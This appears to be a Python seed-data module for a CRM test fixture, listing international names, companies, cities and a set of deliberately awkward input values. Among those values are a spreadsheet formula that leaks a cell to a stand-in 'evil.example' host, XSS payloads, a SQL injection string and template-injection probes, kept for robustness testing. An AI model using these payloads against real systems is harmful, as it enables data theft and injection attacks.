"""List the names and oddities the seed draws from."""

FIRST_NAMES = (
    "Zoë", "Ana", "Bo", "Chidi", "Dagný", "Élodie", "Farid", "Gül", "Hana", "Ivo",
    "Jürgen", "Keiko", "Łucja", "Mateo", "Nguyễn", "Ola", "Priya", "Quentin", "Rosa",
    "Siân", "Tomáš", "Ümit", "Violet", "Wang", "Ximena", "Yusuf", "Zuzana", "Ann-Marie",
    "小雨", "さくら", "민준", "Дмитрий", "Ελένη", "محمد", "נועה", "فاطمة",
)  # fmt: skip
LAST_NAMES = (
    "O'Neill", "García Márquez", "van der Berg", "Müller-Lüdenscheidt", "Nakamura",
    "Smith", "Okafor", "Ångström", "Żółć", "D\u2019Angelo", "Kowalski", "Þórsdóttir",
    "Silva", "Dubois", "Novák", "Li", "Ó Súilleabháin", "Papadopoulos", "Y\u0131lmaz",
    "王", "佐藤", "김", "Иванова", "الخطيب", "כהן", "de Souza", "St. John", "Null",
)  # fmt: skip
JOBS = (
    "Buyer", "Head of Purchasing", "CEO", "Lagerleiter", "Responsable des achats",
    "Engineer", "采购经理", "Store manager", "VP, Sales & <Ops>", "Intern",
)  # fmt: skip
CITIES = (
    ("Boston", "MA", "02110", "United States"),
    ("Łódź", "", "90-001", "Poland"),
    ("São Paulo", "SP", "01000-000", "Brazil"),
    ("東京", "", "100-0001", "Japan"),
    ("القاهرة", "", "11511", "Egypt"),
    ("Zürich", "ZH", "8001", "Switzerland"),
    ("Galway", "", "H91", "Ireland"),
    ("Reykjavík", "", "101", "Iceland"),
)
COMPANY_FIRST = (
    "Harbour", "Blå", "Ångbåt", "Kestrel", "Sankt", "Nord", "Côté", "Ōkami", "Silver",
    "Grün", "Red Fox", "Olive", "Quay", "Tern", "Alder", "Ćwik", "شركة النور", "雲海",
)  # fmt: skip
COMPANY_LAST = (
    "Trading Ltd", "& Sons", "GmbH", "S.A.", "AB", "Logistics", "Möbel", "Works",
    "株式会社", "Collective", "Partners, LLC", "Clinic", "Studio", "Boats <Inc>",
)  # fmt: skip
DEAL_WORDS = (
    "Renewal", "Pilot", "Expansion", "Fleet order", "Réassort", "Neubau", "Retainer",
    "Support plan", "更新", "Storage upgrade",
)  # fmt: skip
# Values people really paste into a CRM, each a small trap for whoever shows it.
ODD_VALUES = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTab first",
    "<script>alert('hi')</script>",
    "<b>bold</b> & <img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE students;--",
    "null",
    "{{ 7*7 }}",
    "Line one\r\nLine two",
    "\u202eright to left override",
    "e\u0301 combining",
    "👩‍👩‍👧‍👦 family",
    "   padded   ",
    "x" * 300,
)
NOTE_LINE = (
    "Visited the store; talked about the autumn range — naïve façade, 東京 order. "
)
